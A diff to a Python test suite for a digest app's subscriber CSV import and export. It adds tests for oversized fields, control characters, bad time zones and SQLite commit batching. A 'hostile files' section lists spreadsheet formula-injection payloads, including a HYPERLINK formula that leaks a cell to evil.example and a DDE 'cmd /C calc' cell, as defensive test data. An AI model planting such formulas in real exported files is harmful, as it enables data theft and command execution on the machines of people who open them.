@@ -4,15 +4,22 @@ from __future__ import annotations
 
 import csv
 import io
+import sqlite3
 from datetime import datetime, timezone
 from pathlib import Path
 
+import pytest
+from digest_helpers import add_subscriber
+from hypothesis import given
+from hypothesis import strategies as st
 from processes import digest_cli
-from sqlalchemy import select
+from sqlalchemy import func, select
 from support import subprocess_env
 
-from digest.db import session_scope
-from digest.models import Subscriber, SubscriberState
+from digest.db import session_factory, session_scope
+from digest.matching.topics import TopicsError, parse_topics
+from digest.models import SignupRequest, Subscriber, SubscriberState
+from digest.subscribers.lists import import_csv, neutralise, restore
 
 
 def run(settings, *args, smtp_url=None):
@@ -37,15 +44,16 @@ def test_import_creates_pending_subscribers_and_mails_each_a_confirmation(settin
     )
     result = run(settings, "subscribers", "import", str(path), smtp_url=smtp_server.url)
     assert result.returncode == 0, result.stderr
-    assert "imported 2, already present 0, rejected 0" in result.stdout
+    assert "imported 2, already present 0, left before (not re-subscribed) 0, rejected 0" in result.stdout
     assert "confirmation emails: 2 sent" in result.stdout
     with session_scope(settings) as s:
         ann = s.scalar(select(Subscriber).where(Subscriber.email == "ann@example.org"))
-        assert ann.state == SubscriberState.pending
-        assert ann.frequency.value == "weekly" and ann.timezone == "Europe/Berlin"
-        assert [f.text for f in ann.filters] == ["diffusion", '"video generation"']
-        bob = s.scalar(select(Subscriber).where(Subscriber.email == "bob@example.org"))
-        assert bob.frequency.value == "daily" and bob.timezone == "UTC" and bob.filters == []
+        assert ann.state == SubscriberState.pending  # the row's preferences wait for the confirmation
+        asked = s.get(SignupRequest, ann.id)
+        assert asked.frequency.value == "weekly" and asked.timezone == "Europe/Berlin"
+        assert asked.topics == 'diffusion\n"video generation"'
+        bob = s.get(SignupRequest, s.scalar(select(Subscriber.id).where(Subscriber.email == "bob@example.org")))
+        assert bob.frequency.value == "daily" and bob.timezone == "UTC" and bob.topics == ""
     assert sorted(m["To"] for m in smtp_server.messages) == ["ann@example.org", "bob@example.org"]
     assert all("/confirm/" in m.get_body(("plain",)).get_content() for m in smtp_server.messages)
 
@@ -81,7 +89,7 @@ def test_import_reports_bad_rows_by_line_imports_the_rest_and_never_touches_exis
     )
     result = run(settings, "subscribers", "import", "--confirmed", str(path))
     assert result.returncode == 1
-    assert "imported 1, already present 2, rejected 4" in result.stdout
+    assert "imported 1, already present 2, left before (not re-subscribed) 0, rejected 4" in result.stdout
     for line in ("line 2:", "line 4: unknown time zone 'Mars/Olympus'", "line 5: frequency must be daily or weekly", "line 6: topics:"):
         assert line in result.stdout
     assert "Traceback" not in result.stderr
@@ -114,3 +122,121 @@ def test_export_round_trips_through_import(settings, tmp_path):
     exported = list(csv.DictReader(io.StringIO(result.stdout)))
     assert [{k: r[k] for k in ("email", "topics", "frequency", "timezone")} for r in exported] == rows
     assert {r["state"] for r in exported} == {"active"} and {r["delivery_hour"] for r in exported} == {"7"}
+
+
+# ---------------------------------------------------------------- hostile files (issue 12)
+
+HOSTILE = {  # address: topics, as stored (directly: some are not filters the language accepts)
+    "hyperlink@example.org": '=HYPERLINK("http://evil.example/?leak="&A2,"x")',
+    "cmd@example.org": "=cmd|' /C calc'!A0",
+    "sum@example.org": "@SUM(1+1)*cmd",
+    "plus@example.org": "+1+cmd",
+    "minus@example.org": "-survey",  # a real exclusion filter
+    "quoted@example.org": "'=already quoted",
+    "second-line@example.org": "agents\n=2+3",
+    "=1+2@example.org": "robots",
+    "-x@example.org": "@home",
+}
+
+
+def is_filter(topics: str) -> bool:
+    try:
+        parse_topics(topics)
+    except TopicsError:
+        return False
+    return True
+
+
+def test_export_neutralises_spreadsheet_formulas_and_import_reads_them_back_unchanged(settings, session, sqlite_database, tmp_path):
+    for email, topics in HOSTILE.items():
+        add_subscriber(session, email, topics.split("\n"))
+    session.commit()
+
+    result = run(settings, "subscribers", "export", "-o", str(tmp_path / "out.csv"))
+    assert result.returncode == 0, result.stderr
+    exported = list(csv.DictReader((tmp_path / "out.csv").open(newline="", encoding="utf-8")))
+    cells = [value for row in exported for value in row.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "a cell a spreadsheet would evaluate"
+    assert {row["email"]: row["topics"] for row in exported} == {
+        **{email: ("'" + topics if topics[0] in "=+-@'" else topics) for email, topics in HOSTILE.items() if email[0] not in "=-"},
+        "'=1+2@example.org": "robots",
+        "'-x@example.org": "'@home",
+    }
+
+    again = settings.with_(database_url=sqlite_database("again"))
+    result = run(again, "subscribers", "import", "--confirmed", str(tmp_path / "out.csv"))
+    accepted = {email: topics for email, topics in HOSTILE.items() if is_filter(topics)}
+    assert len(accepted) >= 6, "the filter language refuses most of these: pick others"
+    assert f"imported {len(accepted)}, already present 0" in result.stdout
+    assert f"rejected {len(HOSTILE) - len(accepted)}" in result.stdout
+    with session_scope(again) as s:
+        assert {row.email: row.topics_text for row in s.scalars(select(Subscriber))} == accepted
+
+
+@given(st.text(max_size=20))
+def test_neutralise_and_restore_are_inverse_and_never_leave_a_formula(cell):
+    assert restore(neutralise(cell)) == cell
+    assert neutralise(cell)[:1] not in ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_a_field_over_the_csv_limit_stops_the_import_with_one_line_naming_it(settings, tmp_path):
+    path = write_csv(
+        tmp_path / "big.csv",
+        [
+            {"email": "before@example.org", "topics": "agents", "frequency": "daily", "timezone": "UTC"},
+            {"email": "huge@example.org", "topics": "x" * 200_000, "frequency": "daily", "timezone": "UTC"},
+            {"email": "after@example.org", "topics": "agents", "frequency": "daily", "timezone": "UTC"},
+        ],
+    )
+    result = run(settings, "subscribers", "import", "--confirmed", str(path))
+    assert result.returncode == 1 and "Traceback" not in result.stderr
+    (line,) = result.stderr.strip().splitlines()
+    assert line.startswith(f"error: {path}: line 3: field larger than 131072 characters")
+    assert "nothing imported from that line on" in line
+    assert "imported 1, already present 0" in result.stdout
+    with session_scope(settings) as s:
+        assert list(s.scalars(select(Subscriber.email))) == ["before@example.org"]
+
+
+@pytest.mark.parametrize(
+    "row, message",
+    [
+        ({"topics": "agents\x00"}, "line 2: topics: line 1: control characters are not allowed"),
+        ({"timezone": "localtime"}, "line 2: unknown time zone 'localtime'"),
+        ({"timezone": "posixrules"}, "line 2: unknown time zone 'posixrules'"),
+        ({"timezone": "Factory"}, "line 2: unknown time zone 'Factory'"),
+    ],
+)
+def test_import_refuses_control_characters_and_files_that_are_not_zones(settings, tmp_path, row, message):
+    path = write_csv(tmp_path / "list.csv", [{"email": "x@example.org", "topics": "", "frequency": "daily", "timezone": "UTC", **row}])
+    result = run(settings, "subscribers", "import", "--confirmed", str(path))
+    assert result.returncode == 1 and message in result.stdout
+    with session_scope(settings) as s:
+        assert s.scalar(select(func.count()).select_from(Subscriber)) == 0
+
+
+def test_a_rows_topic_errors_are_listed_twenty_at_most_then_counted(settings, tmp_path):
+    path = write_csv(tmp_path / "list.csv", [{"email": "x@example.org", "topics": '"\n' * 500, "frequency": "daily", "timezone": "UTC"}])
+    result = run(settings, "subscribers", "import", str(path))
+    (line,) = [line for line in result.stdout.splitlines() if line.strip().startswith("line 2:")]
+    assert line.count("unterminated quote") == 20 and line.endswith("; …and 481 more problems") and len(line) < 2000
+
+
+def test_a_long_import_commits_every_few_hundred_rows_and_leaves_the_database_free_between(settings, sqlite_database, tmp_path):
+    """SQLite has one writer: between two parts of an import a sign-up gets the lock at once."""
+    settings = settings.with_(database_url=sqlite_database("import"))
+    rows = "email,topics\n" + "".join(f"user{i}@example.org,agents\n" for i in range(130))
+    seen: list[tuple[int, int]] = []
+    other = sqlite3.connect(settings.database_url.removeprefix("sqlite:///"), timeout=0)
+
+    def committed(ids: list[int]) -> None:
+        other.execute("BEGIN IMMEDIATE")  # a writer elsewhere: raises "database is locked" if the import held it
+        seen.append((len(ids), other.execute("SELECT count(*) FROM subscribers").fetchone()[0]))
+        other.rollback()
+
+    with session_factory(settings)() as session:
+        report = import_csv(
+            session, settings, io.StringIO(rows), datetime.now(timezone.utc), confirmed=False, commit_every=50, committed=committed
+        )
+    other.close()
+    assert report.created == 130 and seen == [(50, 50), (50, 100), (30, 130)]
